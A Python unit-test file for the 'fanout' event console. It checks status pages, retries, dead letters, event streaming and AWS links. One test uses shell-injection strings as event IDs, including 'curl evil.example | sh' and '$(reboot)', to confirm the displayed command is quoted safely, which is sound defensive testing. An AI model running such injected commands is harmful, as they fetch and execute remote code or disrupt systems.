"""One event at every task: shareable, followed while something is open, and asked for once however many tabs look."""

import html
import re
import shlex
from datetime import UTC, datetime
from types import SimpleNamespace
from typing import Any, cast
from urllib.parse import quote

import pytest

from fanout.console import stream
from fanout.console.find.links import Links, links
from fanout.ops.aws.line import Line
from fanout.ops.aws.subscriber import DeployedSubscriber
from fanout.ops.completeness import Completeness
from fanout.ops.timeline import timeline
from fanout.ops.timeline.state import DEAD, DONE, NOT_FOUND, RETRYING, UNKNOWN, EventState
from fanout.words import printable
from tests.unit.console.given import Here, health, stack

FAILED = Line(
    "failed",
    "m1",
    1,
    datetime(2026, 1, 2, tzinfo=UTC),
    "e1",
    error_type="Http503",
    error="it is down",
    request_id="r-1",
    duration_ms=12.4,
)


@pytest.fixture
def here(monkeypatch: pytest.MonkeyPatch) -> Here:
    return Here(monkeypatch, health("task"), health("other"))


def told(monkeypatch: pytest.MonkeyPatch, *states: EventState) -> list[str]:
    asked: list[str] = []

    def for_stack(_: Any, id_: str, **__: Any) -> list[EventState]:
        asked.append(id_)
        return list(states)

    monkeypatch.setattr(timeline, "for_stack", for_stack)
    return asked


def test_each_attempt_has_its_cause_its_time_and_its_request(monkeypatch: pytest.MonkeyPatch, here: Here) -> None:
    told(monkeypatch, EventState("task", RETRYING, (FAILED,), 5), EventState("other", DONE))
    page = here.page("/events/e1")
    for each in (
        "attempt 1 of 5: failed",
        "2026-01-02 00:00:00 UTC",
        "12 ms",
        "Http503: it is down",
        "r-1",
        'data-refresh="2.0"',
    ):
        assert each in page
    assert "<code>fanout where e1 --stack Orders-prod</code>" in page


def test_tabs_ask_once(monkeypatch: pytest.MonkeyPatch, here: Here) -> None:
    asked = told(monkeypatch, EventState("task", RETRYING), EventState("other", DONE))
    for _ in range(5):
        here.page("/events/e1")
    assert asked == ["e1"]


def test_what_was_not_seen_is_not_told_as_absent(monkeypatch: pytest.MonkeyPatch, here: Here) -> None:
    told(monkeypatch, EventState("task", NOT_FOUND), EventState("other", NOT_FOUND))
    page = here.page("/events/e1")
    assert "No task has seen it" in page and "which nobody can look into" in page and "data-refresh" not in page
    assert 'data-refresh="1.0"' in here.page("/events/e1?since=1h")


def test_what_was_not_read_is_not_told_as_seen_by_nobody(monkeypatch: pytest.MonkeyPatch, here: Here) -> None:
    unread = Completeness(("records: these credentials may not BatchGetItem",))
    told(monkeypatch, EventState("task", NOT_FOUND, completeness=unread), EventState("other", NOT_FOUND))
    for since in ("", "?since=1h"):
        page = here.page(f"/events/e1{since}")
        assert "Not known at every task" in page and "may not BatchGetItem" in page
        assert "No task has seen it" not in page and "On its way" not in page


def test_what_nobody_works_on_is_not_told_as_on_its_way(monkeypatch: pytest.MonkeyPatch, here: Here) -> None:
    told(monkeypatch, EventState("task", UNKNOWN, problem="it is throttled"), EventState("other", DONE))
    page = here.page("/events/e1")
    assert "Not known at every task" in page and "On its way" not in page


def test_of_a_stack_without_subscribers_no_event_is_done_everywhere(monkeypatch: pytest.MonkeyPatch) -> None:
    here = Here(monkeypatch)
    told(monkeypatch)
    page = here.page("/events/e1")
    assert "This stack has no subscriber" in page and "Done everywhere" not in page


def test_what_is_dead_leads_to_its_letters(monkeypatch: pytest.MonkeyPatch, here: Here) -> None:
    told(monkeypatch, EventState("task", DEAD, (FAILED,), 5), EventState("other", DONE))
    assert 'href="/dead?task=task"' in here.page("/events/e1")


def test_any_id_makes_an_address_at_which_it_is_looked_for(here: Here, monkeypatch: pytest.MonkeyPatch) -> None:
    asked = told(monkeypatch, EventState("task", DONE))
    answer = here.client.get("/find", params={"id": " a/b?c#d\u202e "})
    assert answer.headers["location"] == "/events/a%2Fb%3Fc%23d%E2%80%AE"
    here.page(answer.headers["location"])
    here.page("/events/urn:x/1")
    assert asked == ["a/b?c#d\u202e", "urn:x/1"]
    assert here.client.get("/events/").headers["location"] == "/find"
    here.page("/find?id=e1&since=soon", 409)
    here.page("/events/" + "x" * 257, 409)


@pytest.mark.parametrize("id_", ["e1; curl evil.example | sh #", "$(reboot)", "it's", "a b", "a\u202eb"])
def test_the_command_for_a_shell_is_about_the_event_whatever_its_id_is(
    here: Here, monkeypatch: pytest.MonkeyPatch, id_: str
) -> None:
    told(monkeypatch, EventState("task", DONE))
    (command,) = re.findall("<code>(fanout where .*?)</code>", here.page(f"/events/{quote(id_, safe='')}"))
    assert shlex.split(html.unescape(command)) == ["fanout", "where", printable(id_), "--stack", "Orders-prod"]


def test_a_page_that_goes_on_sends_its_block_until_it_is_over(monkeypatch: pytest.MonkeyPatch, here: Here) -> None:
    told(monkeypatch, EventState("task", DONE), EventState("other", DONE))
    answer = here.client.get("/events/e1", headers={"accept": "text/event-stream"})
    assert answer.headers["content-type"].startswith("text/event-stream")
    kinds = [line for line in answer.text.splitlines() if line.startswith("event:")]
    assert kinds == ["event: look", "event: over"] and "Done everywhere" in answer.text and "<html" not in answer.text
    assert "\nid: find/event.html\n" in answer.text


async def _collected(looks: list[stream.Look | stream.Trouble]) -> list[str]:
    return [each async for each in stream.events(lambda: looks.pop(0), lambda: False)]


def test_what_did_not_change_is_not_sent_again() -> None:
    import anyio

    looks: list[stream.Look | stream.Trouble] = [
        stream.Look("looking", "a\nb", 0.001),
        stream.Look("looking", "a\nb", 0.001),
        stream.Look("found", "c", 0),
    ]
    assert anyio.run(_collected, looks) == [
        "event: look\nid: looking\ndata: a\ndata: b\n\n",
        "event: look\nid: found\ndata: c\n\n",
        "event: over\ndata: \n\n",
    ]


def test_a_look_that_fails_is_said_and_is_not_the_end(monkeypatch: pytest.MonkeyPatch) -> None:
    import anyio

    monkeypatch.setattr(stream, "AFTER_TROUBLE", 0.001)
    same = stream.Look("page", "a", 0.001)
    looks: list[stream.Look | stream.Trouble] = [
        same,
        stream.Trouble("Throttling: slow down"),
        same,
        stream.Look("page", "a", 0),
    ]
    assert anyio.run(_collected, looks) == [
        "event: look\nid: page\ndata: a\n\n",
        "event: trouble\ndata: Throttling: slow down\n\n",
        "event: look\nid: page\ndata: a\n\n",  # what was said of the trouble goes
        "event: over\ndata: \n\n",
    ]


def test_links_of_aws_are_there_on_aws_alone() -> None:
    line = Line("failed", "m1", 1, FAILED.at, log_stream="2026/01/02/[$LATEST]abc", trace_id="1-a")
    of = cast(DeployedSubscriber, SimpleNamespace(log_group="/aws/lambda/x"))
    found = links(stack(["task"]), of, line)
    assert found.log.endswith(
        "log-group/$252Faws$252Flambda$252Fx/log-events/2026$252F01$252F02$252F$255B$2524LATEST$255Dabc"
    )
    assert found.trace.endswith("#xray:traces/1-a")
    local = SimpleNamespace(aws=SimpleNamespace(is_aws=False))
    assert links(cast(Any, local), of, line) == Links()
